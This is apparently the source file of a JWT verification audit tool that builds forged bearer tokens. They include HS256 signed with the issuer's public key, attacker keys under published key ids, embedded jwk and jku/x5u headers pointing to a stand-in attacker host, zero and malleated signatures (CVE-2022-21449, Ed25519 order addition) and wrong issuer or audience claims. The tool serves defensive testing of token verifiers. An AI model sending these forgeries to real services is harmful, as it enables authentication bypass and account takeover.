import { createPrivateKey, createPublicKey, generateKeyPairSync, type KeyObject } from 'node:crypto';
import type { JWK } from 'jose';
import type { Issuer } from '../../gather/issuer.ts';
import { encode, parseClaims, signToken } from '../../gather/sign-token.ts';
import { type Signer, signWithKey } from '../../gather/signer.ts';
import { headerOf } from '../../model/token.ts';
import { type Attack, bearer, soon } from './bad-credentials.ts';

type Algorithm = 'EdDSA' | 'ES256' | 'RS256';
type KeyPair = { privateKey: KeyObject; publicKey: KeyObject };

/** A genuine token, the issuer that signed it, and where the audit publishes a key of an attacker; undefined where the target cannot reach it. */
export type KeySetMaterial = { token: string; issuer: Pick<Issuer, 'keySet' | 'keys' | 'key'>; attackersUrl: string | undefined };

const UNUSED_URL = 'https://evil.example';
/** The order of the base point of Ed25519 (RFC 8032 section 5.1). */
const ED25519_ORDER = 2n ** 252n + 27742317777372353535851937790883648493n;

/** HS256 with a text that everyone can read: the issuer's public key in each of its forms (RFC 8725 section 2.1). */
export function publicKeyAsSecret({ token, issuer: { key, keySet } }: KeySetMaterial): Attack[] {
  const publicKey = createPublicKey({ key, format: 'jwk' });
  const pem = publicKey.export({ format: 'pem', type: 'spki' }).toString();
  const secrets: [string, string | Buffer][] = [
    ['as PEM', pem],
    ['as PEM without the last line break', pem.trim()],
    ['as DER', publicKey.export({ format: 'der', type: 'spki' })],
    ['as a JWK', JSON.stringify(key)],
    ['in the key set as it is served', keySet],
  ];
  const header = { ...headerOf(token), alg: 'HS256' };
  return secrets.map(([form, secret]) =>
    bearer('public-key-as-secret', `HS256 with the public key ${form} as the secret`, signToken(freshClaims(token), secret, header)),
  );
}

/** Signatures under keys that the issuer does not publish. */
export function unpublishedKeys({ token, issuer: { key, keys } }: KeySetMaterial, attacker: AttackersKeys): Attack[] {
  const header = headerOf(token);
  const alg = algorithmOf(key);
  const signed = (name: string, by: Algorithm, changed: Readonly<Record<string, unknown>>, claims = freshClaims(token)): Attack =>
    bearer('unpublished-key', name, signWithKey(claims, attacker[by].privateKey, by, { ...header, alg: by, ...changed }));
  const others = (['EdDSA', 'ES256', 'RS256'] as const).filter((each) => each !== alg);
  const otherTypes = keys.filter((each) => each.kty !== key.kty && each.kid !== undefined);
  return [
    signed('a key of the attacker under the kid of the published key', alg, {}),
    signed('a key of the attacker under an unknown kid', alg, { kid: 'audit-unknown-key' }),
    signed('a key of the attacker without a kid', alg, { kid: undefined }),
    ...others.map((by) => signed(`${by} with a key of the attacker under the kid of the published key`, by, {})),
    ...otherTypes.slice(0, 1).map(({ kid }) => signed('a key of the attacker under the kid of a published key of another type', alg, { kid })),
    signed('the valid token of another issuer', alg, { kid: 'key-of-another-issuer' }, { ...freshClaims(token), iss: `${UNUSED_URL}/` }),
  ];
}

/** Headers in which a token brings its own key, or states where to find it (RFC 8725 section 3.10). */
export function keysInHeaders({ token, issuer: { key }, attackersUrl = UNUSED_URL }: KeySetMaterial, attacker: AttackersKeys): Attack[] {
  const alg = algorithmOf(key);
  const { privateKey, publicKey } = attacker[alg];
  const jwk = { ...publicKey.export({ format: 'jwk' }), alg, use: 'sig' };
  const signed = (name: string, changed: Readonly<Record<string, unknown>>): Attack =>
    bearer('key-in-header', name, signWithKey(freshClaims(token), privateKey, alg, { ...headerOf(token), ...changed }));
  return [
    signed('an embedded jwk under the published kid', { jwk: { ...jwk, kid: key.kid } }),
    signed('an embedded jwk without a kid', { kid: undefined, jwk }),
    signed('jku of the attacker', { kid: ATTACKERS_KID, jku: `${attackersUrl}/jwks.json` }),
    signed('x5u of the attacker', { kid: ATTACKERS_KID, x5u: `${attackersUrl}/chain.pem` }),
    bearer(
      'key-in-header',
      'iss of the attacker, whose key set is at its usual place',
      signWithKey({ ...freshClaims(token), iss: attackersUrl }, privateKey, alg, { ...headerOf(token), kid: ATTACKERS_KID }),
    ),
    signed('x5c of the attacker', { x5c: [publicKey.export({ format: 'der', type: 'spki' }).toString('base64')] }),
  ];
}

export const ATTACKERS_KID = 'audit-attackers-key';

/** Other bytes in place of the signature of a genuine token. */
export function signatureForms({ token, issuer: { key } }: KeySetMaterial): Attack[] {
  const [header = '', payload = '', signature = ''] = token.split('.');
  const bytes = Buffer.from(signature, 'base64url');
  const replaced = (name: string, other: Buffer, changed = header): Attack =>
    bearer('signature-form', name, `${changed}.${payload}.${other.toString('base64url')}`);
  const es256 = encode(JSON.stringify({ ...headerOf(token), alg: 'ES256' }));
  const alg = algorithmOf(key);
  return [
    replaced('a signature of zeros', Buffer.alloc(bytes.length)),
    // CVE-2022-21449: r = s = 0 verifies in a broken implementation.
    ...(alg === 'ES256' ? [] : [replaced('ES256 with a signature of zeros', Buffer.alloc(64), es256)]),
    replaced('the signature and one more byte', Buffer.concat([bytes, Buffer.alloc(1)])),
    replaced('a zero byte and the signature', Buffer.concat([Buffer.alloc(1), bytes])),
    replaced('the signature twice', Buffer.concat([bytes, bytes])),
    ...(alg === 'EdDSA' ? [replaced('the signature with S increased by the group order', withOrderAdded(bytes))] : []),
    ...(alg === 'ES256' ? [replaced('the signature in DER', inDer(bytes))] : []),
  ];
}

/** Signed with the issuer's own key, for someone else or for another purpose. */
export function wrongClaims({ common, header, sign }: Signer, userId: string): Attack[] {
  const valid = { sub: userId, exp: soon() };
  const claims = (name: string, changed: Readonly<Record<string, unknown>>): Attack => bearer('issuer', name, sign({ ...valid, ...changed }));
  const iss = String(common['iss']);
  const otherIss = iss.endsWith('/') ? iss.slice(0, -1) : `${iss}/`;
  const forOthers =
    'aud' in common
      ? [
          claims('aud of another API', { aud: `${UNUSED_URL}/api` }),
          claims('an array of other audiences', { aud: [`${UNUSED_URL}/api`, userId] }),
          claims('no aud', { aud: undefined }),
        ]
      : 'azp' in common
        ? [claims('azp of another page', { azp: UNUSED_URL }), claims('no azp', { azp: undefined })]
        : [];
  return [
    claims('iss of another issuer', { iss: UNUSED_URL }),
    claims('iss with or without a trailing slash', { iss: otherIss }),
    claims('no iss', { iss: undefined }),
    ...forOthers,
    // Clerk signs tokens of a session that is not signed in yet.
    ...('sts' in common ? [claims('sts pending', { sts: 'pending' })] : []),
    ...['secevent+jwt', 'dpop+jwt'].map((typ) => bearer('issuer', `typ ${typ}`, sign(valid, { ...header, typ }))),
  ];
}

/** A token under a key that the issuer published once and then withdrew. */
export function withdrawnKeys({ token, issuer: { withdrawn } }: { token: string; issuer: Pick<Issuer, 'withdrawn'> }): Attack[] {
  return withdrawn.map((jwk) => {
    const alg = algorithmOf(jwk);
    const header = { ...headerOf(token), alg, kid: jwk.kid };
    return bearer(
      'issuer',
      'a key that the issuer has withdrawn',
      signWithKey(freshClaims(token), createPrivateKey({ key: jwk, format: 'jwk' }), alg, header),
    );
  });
}

/** One key of an attacker for each algorithm. */
export type AttackersKeys = Readonly<Record<Algorithm, KeyPair>>;

export function createAttackersKeys(): AttackersKeys {
  return {
    EdDSA: generateKeyPairSync('ed25519'),
    ES256: generateKeyPairSync('ec', { namedCurve: 'P-256' }),
    RS256: generateKeyPairSync('rsa', { modulusLength: 2_048 }),
  };
}

function algorithmOf({ kty }: Pick<JWK, 'kty'>): Algorithm {
  return kty === 'RSA' ? 'RS256' : kty === 'EC' ? 'ES256' : 'EdDSA';
}

/** The claims of a genuine token with a later end, because it may end during the audit. */
function freshClaims(token: string): Record<string, unknown> {
  return { ...parseClaims(token.split('.')[1] ?? ''), exp: soon() };
}

/** A second encoding of the same scalar, which RFC 8032 section 5.1.7 forbids. */
function withOrderAdded(signature: Buffer): Buffer {
  const scalar = BigInt(`0x${Buffer.from(signature.subarray(32)).reverse().toString('hex')}`) + ED25519_ORDER;
  return Buffer.concat([signature.subarray(0, 32), Buffer.from(scalar.toString(16).padStart(64, '0'), 'hex').reverse()]);
}

/** The ASN.1 form of an ECDSA signature, in place of the fixed one of RFC 7518 section 3.4. */
function inDer(signature: Buffer): Buffer {
  const integer = (bytes: Buffer): Buffer => {
    const trimmed = Buffer.from(bytes.toString('hex').replace(/^(00)+(?=..)/, ''), 'hex');
    const value = (trimmed[0] ?? 0) >= 0x80 ? Buffer.concat([Buffer.alloc(1), trimmed]) : trimmed;
    return Buffer.concat([Buffer.from([0x02, value.length]), value]);
  };
  const half = signature.length / 2;
  const both = Buffer.concat([integer(signature.subarray(0, half)), integer(signature.subarray(half))]);
  return Buffer.concat([Buffer.from([0x30, both.length]), both]);
}
